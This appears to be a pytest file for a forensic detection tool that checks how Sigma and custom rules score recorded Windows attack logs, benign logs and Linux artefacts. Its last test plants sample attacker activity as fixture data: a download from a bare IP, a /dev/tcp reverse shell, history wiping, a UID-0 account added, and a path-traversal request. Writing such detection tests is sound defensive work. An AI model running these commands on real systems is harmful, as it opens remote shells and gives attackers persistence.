"""Findings from the Sigma rules on real recordings: the shared attack samples (exact values), benign logs
(the noise each high finding is explained), the C6 origin account, the CLI, a failing check, a big timeline."""
from __future__ import annotations

import json
import resource

import pytest

from analysis import findings
from analysis.detect import engine, origin, rules
from desktop.cli import main

ATTACK = ["Defense_Evasion/DE_1102_security_log_cleared.evtx",
          "Persistence/sysmon_13_1_persistence_via_winlogon_shell.evtx",
          "Credential_Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx",
          "Privilege_Escalation/Sysmon_UACME_64.evtx"]


@pytest.fixture(scope="module")
def attack_case(tmp_path_factory, shared_data):
    from collectors.case import Case

    c = Case.create(tmp_path_factory.mktemp("attack") / "case", examiner="pytest", affected_root="")
    ids = {}
    for name in ATTACK:
        rec = c.add_file(shared_data / "evtx" / "attack-samples" / name, checklist_id="B10", collector="test",
                         source="C:\\Windows\\System32\\winevt\\Logs\\" + name.rsplit("/", 1)[1])
        ids[name.split("/")[0]] = rec.id
    report = findings.run_report(c)
    yield c, ids, report
    c.close()


def _by(report, rule):
    return [f for f in report.findings if f.rule == rule]


def test_log_cleared_one_finding_with_the_sigmahq_rule_that_matched_too(attack_case):
    _, ids, report = attack_case
    [f] = _by(report, "C6-log-cleared")
    assert (f.severity, f.time, f.event_count) == ("high", "2019-03-19T23:35:07.524202Z", 1)
    assert f.events == [{"evidence_id": ids["Defense_Evasion"], "locator": "record 1"}]
    assert f.first_match == {"subjectusername": "user01"}
    assert f.tags == ["attack.defense-impairment", "attack.t1685.005"] and f.tactic == "defense_impairment"
    assert f.title_vi == "Nhật ký sự kiện Windows bị xoá" and f.explanation_vi.startswith("Xoá nhật ký")
    [also] = f.details["also_matched"]
    assert also["rule"] == "d99b79d2-0a6f-4f46-ad8b-260b6e17f982" and also["author"] == "Florian Roth (Nextron Systems)"
    assert not _by(report, "d99b79d2-0a6f-4f46-ad8b-260b6e17f982")


def test_winlogon_shell_persistence(attack_case):
    _, ids, report = attack_case
    [f] = _by(report, "H2-windows-autostart-registry")
    assert f.evidence_ids == [ids["Persistence"]] and f.events[0]["locator"] == "record 3"
    assert f.first_match["targetobject"].endswith("\\Winlogon\\Shell") and f.checklist_id == "H2"
    [child] = _by(report, "0a98a10c-685d-4ab0-bddc-b6bdd1d48458")  # Uncommon Userinit Child Process
    assert child.origin == "sigma" and child.author and child.references
    assert child.rule_path.startswith("resources/rules/sigma/rules/windows/process_creation/")


def test_iis_web_shell_then_credential_dump(attack_case):
    _, ids, report = attack_case
    [web] = _by(report, "8202070f-edeb-4d31-a010-a26c72ac5600")  # Suspicious Process By Web Server Process
    assert web.tactic == "initial_access" and web.checklist_id == "C6"
    assert web.first_match["user"] == "IIS APPPOOL\\DefaultAppPool"
    [dump] = _by(report, "2d3cdeec-c0db-45b4-aa86-082f7eb75701")  # IIS Service Account Password Dumped
    assert dump.event_count == 18 and len(dump.events) == 18 and dump.techniques == ["T1003"]
    assert "appcmd.exe" in dump.first_match["commandline"]


def test_uacme(attack_case):
    _, ids, report = attack_case
    [akagi] = _by(report, "d38d2fa4-98e6-4a24-aff1-410b0c9ad177")  # HackTool - UACMe Akagi Execution
    assert akagi.event_count == 2 and akagi.evidence_ids == [ids["Privilege_Escalation"]]
    assert akagi.tactic == "privilege_escalation"


def test_groups_follow_the_attack_order(attack_case):
    _, _, report = attack_case
    order = [g["tactic"] for g in findings.groups(report.findings)]
    assert order == sorted(order, key=lambda t: findings.TACTIC_ORDER.get(t, 99))
    assert order[0] == "initial_access" and order[-1] == "other"
    d = findings.report_dict(report, "CASE")
    assert d["rules"]["failed"] == 2 and d["detection"]["check_failures"] == []
    g = d["groups"][0]
    assert g["name_vi"] == "Xâm nhập ban đầu" and g["attack_id"] == "TA0001" and g["findings"][0]["tactics"]
    json.dumps(d)  # the --json document is plain JSON


def test_origin_account_in_the_incident_time_zone(attack_case):
    _, ids, report = attack_case
    acc = origin.account(report.findings, "Asia/Ho_Chi_Minh")
    first = acc["lines"][0]
    # the winlogon recording (2019-03-... UTC) is the earliest of these four
    assert first["step"] == "first" and first["time"].endswith("+07:00")
    entry = [ln for ln in acc["lines"] if ln["step"] in ("entry", "first+entry")]
    assert len(entry) == 1 and entry[0]["rule"] == "8202070f-edeb-4d31-a010-a26c72ac5600"
    assert entry[0]["time"] == "2019-05-27 08:28:42 +07:00" and entry[0]["evidence_ids"] == [ids["Credential_Access"]]
    assert "IIS APPPOOL\\DefaultAppPool" in entry[0]["text_vi"]
    times = [ln["time_utc"] for ln in acc["lines"]]
    assert times == sorted(times)
    assert all(ln["evidence_ids"] and ln["events"] for ln in acc["lines"])
    assert acc["text_vi"].startswith("1. ") and "Lối vào" in acc["text_vi"]
    utc = origin.account(report.findings, "UTC")
    assert utc["lines"][0]["time"].endswith("+00:00")


def test_noise_on_benign_logs(new_case, evtx_dir):
    """evtx-rs and python-evtx samples: ordinary machines, except evtx-rs sysmon.evtx and python-evtx
    issue_43.evtx (one recording of attack tools run from C:\\tool-test: WannaCry, Sysmon removal, shadow
    copies deleted), left out here. Every high or critical finding that remains is explained below."""
    c = new_case("benign")
    names = {}
    for p in sorted((evtx_dir / "evtx-rs-samples").glob("*.evtx")) + sorted((evtx_dir / "python-evtx-tests").glob("*.evtx")):
        if p.name in ("sysmon.evtx", "issue_43.evtx"):
            continue
        rec = c.add_file(p, checklist_id="B10", collector="test", source="C:\\Logs\\" + p.parent.name + "\\" + p.name)
        names[rec.id] = p.parent.name + "/" + p.name
    found = findings.run(c)
    high = sorted((f.rule, names[f.evidence_ids[0]], f.event_count) for f in found if f.severity in ("high", "critical"))
    assert high == [
        # the examiner of the recording machine cleared two logs (104 in System; the SigmaHQ rule for the
        # same events is listed under also_matched, not a second finding)
        ("C6-log-cleared", "evtx-rs-samples/system.evtx", 2),
        # the first local account (RID 1000) added to Administrators by the machine account at setup: what an
        # attacker adding an account looks like too, so the rule stays high
        ("H2-windows-admin-group", "evtx-rs-samples/new-user-security.evtx", 1),
        ("H2-windows-admin-group", "evtx-rs-samples/post-Security.evtx", 1),
        ("H2-windows-admin-group", "evtx-rs-samples/security.evtx", 3),
        ("H2-windows-admin-group", "evtx-rs-samples/security_bad_string_cache.evtx", 3),
        ("H2-windows-admin-group", "python-evtx-tests/security.evtx", 3),
        # a test run installed a service from %TEMP% (pytest-of-tony\\...\\pathfinder.exe): a service binary
        # in a temp folder is what PsExec-style tools leave, so it is high
        ("H2-windows-service-suspicious", "evtx-rs-samples/system.evtx", 1)]


def test_run_is_a_generator_of_stages(attack_case):
    case, _, _ = attack_case
    gen = findings.iter_run(case, build=False)
    stages = []
    while True:
        try:
            stages.append(next(gen))
        except StopIteration as stop:
            report = stop.value
            break
    assert [s.name for s in stages if isinstance(s, findings.Stage)] == ["rules", "detect", "checks", "indicators"]
    assert report.detection["events"] > 0 and not report.detection["cancelled"]


def test_a_failing_check_is_named_and_the_others_run(attack_case, monkeypatch):
    import types

    from analysis import checks

    case, _, _ = attack_case
    broken = types.ModuleType("analysis.checks.broken")
    broken.run = lambda case, db: (_ for _ in ()).throw(RuntimeError("snapshot layout not understood"))
    real = checks.modules

    def modules(failures=None):
        return [broken] + real(failures)

    monkeypatch.setattr(checks, "modules", modules)
    report = findings.run_report(case, build=False)
    assert report.detection["check_failures"][0]["check"] == "analysis.checks.broken"
    assert "snapshot layout not understood" in report.detection["check_failures"][0]["error"]
    assert _by(report, "C4-last-activity") and _by(report, "C6-log-cleared")


def test_cli_rules_dir_json_and_bad_rule(attack_case, tmp_path, capsys):
    case, ids, _ = attack_case
    d = tmp_path / "team"
    d.mkdir()
    (d / "ours.yml").write_text(
        "title: Team rule - appcmd lists app pools\nid: team-1\nlevel: low\nauthor: CERT Hà Tĩnh\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    CommandLine|contains|all: [appcmd, ' list apppool']\n  condition: sel\n")
    (d / "bad.yml").write_text("title: bad\nlogsource: {product: windows}\ndetection:\n  sel: {Image: x}\n"
                               "  condition: sel or nope\n")
    assert main(["findings", "--case", str(case.path), "--rules", str(d), "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    [team] = [f for f in out["findings"] if f["rule"] == "team-1"]
    assert team["origin"] == "custom" and team["author"] == "CERT Hà Tĩnh" and team["event_count"] == 19
    [err] = [e for e in out["rules"]["errors"] if e["path"].endswith("bad.yml")]
    assert err["line"] == 5 and "'nope'" in err["message"]
    assert out["origin"]["lines"] and out["groups"][0]["tactic"] == "initial_access"
    assert main(["findings", "--case", str(case.path), "--rules", str(d), "--min-severity", "high"]) == 0
    cap = capsys.readouterr()
    assert "bad.yml:5" in cap.err and "== Xâm nhập ban đầu (TA0001)" in cap.out
    assert "điều kiện nhắc tới 'nope', không phải một vùng chọn của luật" in cap.err   # the reason in Vietnamese
    assert "Nguồn gốc tấn công (C6)" in cap.out and "tác giả:" in cap.out


def test_a_million_events_stream_in_bounded_memory():
    """1,000,000 events through the whole default rule set (no list kept: a generator feeds the
    engine). Matches stay capped per rule and evidence item; memory does not grow with the events."""
    rs = rules.load()
    proc = {"event_id": 1, "provider": "Microsoft-Windows-Sysmon", "channel": "Microsoft-Windows-Sysmon/Operational",
            "computer": "PC", "data": {"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all",
                                       "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "PC\\bob"}}
    quiet = {"event_id": 4634, "provider": "Microsoft-Windows-Security-Auditing", "channel": "Security",
             "computer": "PC", "data": {"TargetUserName": "bob"}}
    p, q = json.dumps(proc), json.dumps(quiet)

    def rows():
        for i in range(1_000_000):
            yield i, "evtx", "", p if i % 100 == 0 else q, f"E{i // 250_000}", f"record {i}"

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    res = engine.run(rows(), rs)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert res.events == 1_000_000
    whoami = [h for h in res.hits if h.rule.title == "Enumerate All Information With Whoami.EXE"]
    assert [h.count for h in whoami] == [2_500] * 4 and all(len(h.keys) == engine.KEEP_KEYS for h in whoami)
    assert grown_mb < 60, grown_mb


def test_linux_shell_history_auth_and_web_access_logs(new_case, tmp_path):
    """SigmaHQ's Linux process-creation rules over shell history and sudo lines, UngCuu's account rules
    over the auth log, web rules over an access log (SigmaHQ's and UngCuu's on the same request: one finding)."""
    from analysis_helpers import add_text

    c = new_case("linux")
    add_text(c, tmp_path, "/root/.bash_history",
             "#1699590000\nwget http://203.0.113.50/x.sh -O /tmp/x.sh\n#1699590020\n"
             "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n#1699590040\nhistory -c\n")
    add_text(c, tmp_path, "/var/log/auth.log",
             "Nov 10 02:16:00 web01 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; "
             "COMMAND=/usr/bin/base64 -d /tmp/p.b64\n"
             "Nov 10 02:17:00 web01 useradd[1200]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash\n",
             mtime=1700000000)
    add_text(c, tmp_path, "/var/log/nginx/access.log",
             '203.0.113.50 - - [10/Nov/2023:01:00:05 +0700] "GET /../../../../etc/passwd HTTP/1.1" 404 0 "-" "sqlmap/1.7"\n')
    found = findings.run(c, min_level="low")
    got = {(f.rule, f.origin): [e["locator"] for e in f.events] for f in found if f.origin != "check"}
    # a history entry's locator is the line of its "#<time>" stamp
    assert got[("738d9bcf-6999-4fdb-b4ac-3033037db8ab", "sigma")] == ["line 3"]  # Suspicious Reverse Shell Command Line
    assert got[("fdc88d25-96fb-4b7c-9633-c0e417fdbd4e", "sigma")] == ["line 5"]  # Linux Command History Tampering
    assert got[("cf610c15-ed71-46e1-bdf8-2bd1a99de6c4", "sigma")] == ["line 1"]  # wget to a suspicious folder
    assert got[("C5-suspicious-command-line-linux", "ungcuu")] == ["line 1", "line 3"]  # wget from a bare IP; /dev/tcp
    assert got[("e2072cab-8c9a-459b-b63c-40ae79e27031", "sigma")] == ["line 1"]  # base64 -d, from the sudo line
    assert got[("H2-new-account-uid0-linux", "ungcuu")] == ["line 2"]
    [trav] = [f for f in found if f.rule == "C6-web-path_traversal"]
    assert trav.first_match["c-uri"] == "/../../../../etc/passwd" and trav.first_match["c-ip"] == "203.0.113.50"
    also = {a["title"] for a in trav.details["also_matched"]}
    assert "Path Traversal Exploitation Attempts" in also
    [ua] = [f for f in found if f.rule == "C6-web-scanner"]
    assert ua.first_match["c-useragent"] == "sqlmap/1.7" and ua.tactic == "reconnaissance"
